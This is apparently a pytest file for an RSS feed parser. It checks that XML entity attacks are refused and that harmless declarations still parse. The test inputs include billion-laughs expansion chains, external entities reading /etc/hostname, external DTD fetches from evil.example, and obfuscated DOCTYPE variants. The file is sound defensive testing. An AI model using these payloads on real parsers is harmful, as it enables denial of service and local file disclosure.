"""Document types: harmless entities are read, those that blow up or read files are refused with a reason."""

from __future__ import annotations

import pytest

from extractors.entries import FeedReading, read_feed
from extractors.feeds.declarations import MAX_EXPANSION
from extractors.feeds_file import make_feed
from tests.extractors.test_entries import NOW, URL

ITEM = "<item><guid>g</guid><title>{}</title></item>"
SAFE = "<rss version='2.0'><channel><item><guid>g</guid><title>plain</title></item></channel></rss>"


def reading(body: str | bytes, content_type: str = "application/xml") -> FeedReading:
    encoded = body.encode() if isinstance(body, str) else body
    return read_feed(make_feed(URL, "A paper"), encoded, content_type, URL, NOW)


def rss(title: str) -> str:
    return f'<rss version="2.0"><channel>{ITEM.format(title)}</channel></rss>'


LAUGHS = "<!DOCTYPE r [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};'>" for n in range(1, 30)
)


@pytest.mark.parametrize(
    "body",
    [
        LAUGHS + "]>" + rss("&a29;"),
        LAUGHS + "]>" + rss("never used"),
        f"<!DOCTYPE r [<!ENTITY a '{'x' * 100_000}'>]>" + rss("&a;" * 1_000),
        "<!DOCTYPE r [<!ENTITY f SYSTEM 'file:///etc/hostname'>]>" + rss("&f;"),
        "<!DOCTYPE r [<!ENTITY f PUBLIC '-//X//Y' 'https://evil.example/x'>]>" + rss("&f;"),
        "<!DOCTYPE r [<!ENTITY % p SYSTEM 'https://evil.example/x.dtd'> %p;]>" + rss("x"),
        "<!DOCTYPE r [<!ENTITY % p '<!ENTITY q \"z\">'> %p;]>" + rss("&q;"),
        "<!DOCTYPE r [<!ENTITY a 'x'><!-- ]> --><!ENTITY f SYSTEM 'file:///etc/hostname'>]>" + rss("&f;"),
        "<?xml version='1.0'?>\n<!-- a -->\n<!DOCTYPE r [\n<!ENTITY f SYSTEM 'file:///etc/hostname'>\n]>" + rss("&f;"),
        "<!DOCTYPE r><!DOCTYPE r [<!ENTITY f SYSTEM 'file:///etc/hostname'>]>" + rss("&f;"),
        "<!DOCTYPE r [<!ENTITY a '%b;'>]>" + rss("&a;"),
        "<!DOCTYPE r [" + rss("no end of it"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp037"])
def test_entities_that_may_blow_up_or_read_files_are_refused(body: str, encoding: str) -> None:
    document = body if encoding == "utf-8" or body.startswith("<?xml") else f"<?xml version='1.0'?>{body}"
    found = reading(document.encode(encoding))
    assert (found.entries, found.problem) == ((), "declares_entities")


@pytest.mark.parametrize(
    ("doctype", "told", "title"),
    [
        ('<!DOCTYPE rss [<!ENTITY nbsp "&#160;"> <!ENTITY eacute "&#xE9;">]>', "caf&eacute;&nbsp;x", "café x"),
        (
            "<!DOCTYPE rss [\n<!ENTITY paper 'The \"Daily\" Paper'>\n]>",
            "In &paper;: a &amp; b",
            'In The "Daily" Paper: a & b',
        ),
        ('<!DOCTYPE rss [<!ENTITY lt "&#38;#60;"><!ENTITY amp "&#38;#38;">]>', "a &lt; b &amp; c", "a < b & c"),
        ('<!DOCTYPE rss [<!ENTITY less "&#60;">]>', "a &less; b", "a < b"),
        ('<!DOCTYPE rss [<!ENTITY x "y">]>', "<![CDATA[&x;]]>", "&x;"),
        (
            '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
            "external and never read",
            "external and never read",
        ),
        (
            '<!DOCTYPE rdf:RDF [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1;]>',
            "caf&eacute;",
            "café",
        ),
        ("<!DOCTYPE rss [<!ELEMENT rss (channel)*><!ATTLIST rss version CDATA #FIXED '2.0'>]>", "grammar", "grammar"),
        ("<!DOCTYPE rss [<!-- <!ENTITY f SYSTEM 'x'> is a comment -->]>", "spoken of", "spoken of"),
        ("<!DOCTYPE rss [<!ENTITY once 'a'><!ENTITY once 'b'>]>", "&once;", "a"),
        ("<!DOCTYPE rss>", "bare", "bare"),
    ],
)
def test_harmless_declarations_are_read(doctype: str, told: str, title: str) -> None:
    (entry,) = reading(f'<?xml version="1.0"?>\n{doctype}\n{rss(told)}').entries
    assert entry.title == title


def test_an_entity_is_written_out_up_to_a_bound() -> None:
    value = "x" * 1_000
    times = MAX_EXPANSION // len(value)
    doctype = f"<!DOCTYPE r [<!ENTITY a '{value}'>]>"
    assert len(reading(doctype + rss("&a;" * times)).entries) == 1
    assert reading(doctype + rss("&a;" * (times + 1))).problem == "declares_entities"


def test_a_declaration_behind_the_root_declares_nothing() -> None:
    found = reading(f"<rss version='2.0'><channel>{ITEM.format('a')}</channel></rss><!DOCTYPE r [<!ENTITY a 'b'>]>")
    assert [entry.title for entry in found.entries] == ["a"]
    assert found.problem == "malformed_xml"


@pytest.mark.parametrize(
    "junk",
    [
        "<br />\n<b>Warning</b>:  mysql_connect() in <b>/a.php</b> on line <b>3</b><br />\n",
        "Notice: undefined index\n",
        "<!-- cached -->",
        "<script>var a = 1;</script>",
    ],
)
def test_what_a_server_says_before_the_feed_is_passed_over(junk: str) -> None:
    found = reading(f'{junk}<?xml version="1.0"?>{SAFE}')
    assert [entry.title for entry in found.entries] == ["plain"]
    assert found.problem == "malformed_xml"


def test_an_xml_declaration_in_a_text_is_a_text() -> None:
    found = reading(rss("<![CDATA[How to write <?xml version='1.0'?> first]]>"))
    assert len(found.entries) == 1


@pytest.mark.parametrize(
    "prolog",
    [
        "<?" * 100_000,
        "<!--" * 100_000,
        "<!DOCTYPE r [" + '"' * 200_000,
        "<!DOCTYPE " * 50_000,
        "<!DOCTYPE r [" + "<!ENTITY a 'b'>" * 20_000 + "]>",
        "<!DOCTYPE r [" + "<!ENTITY % " * 20_000,
    ],
)
def test_endless_prologs_have_a_reason(prolog: str) -> None:
    assert reading(prolog + SAFE).problem is not None


def test_many_comments_are_but_comments() -> None:
    assert len(reading("<!---->" * 50_000 + SAFE).entries) == 1
